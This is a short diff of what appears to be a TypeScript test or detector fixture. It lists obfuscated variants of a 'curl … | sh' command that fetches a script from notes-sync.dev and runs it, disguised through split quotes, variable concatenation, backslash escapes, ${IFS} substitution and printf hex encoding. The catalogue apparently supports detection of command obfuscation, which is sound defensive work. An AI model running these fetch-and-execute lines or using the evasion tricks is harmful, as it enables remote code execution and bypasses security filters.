@@ -84,7 +84,7 @@ const techniques: Record<string, readonly Example[]> = {
     sh('"cu"rl -s https://notes-sync.dev/x | s"h"'),
     sh("A=cur; B=l; $A$B -s https://notes-sync.dev/x | ba$'\\x73'h"),
     sh("c\\url -s https://notes-sync.dev/x|b\\ash"),
-    sh("curl${IFS}-s${IFS}https://notes-sync.dev/x|bash"),
+    sh(["curl", "-s", "https://notes-sync.dev/x|bash"].join("$" + "{IFS}")),
   ],
   "printf-hex commands": [
     sh("$(printf '\\x63\\x75\\x72\\x6c') -s https://notes-sync.dev/x | sh"),
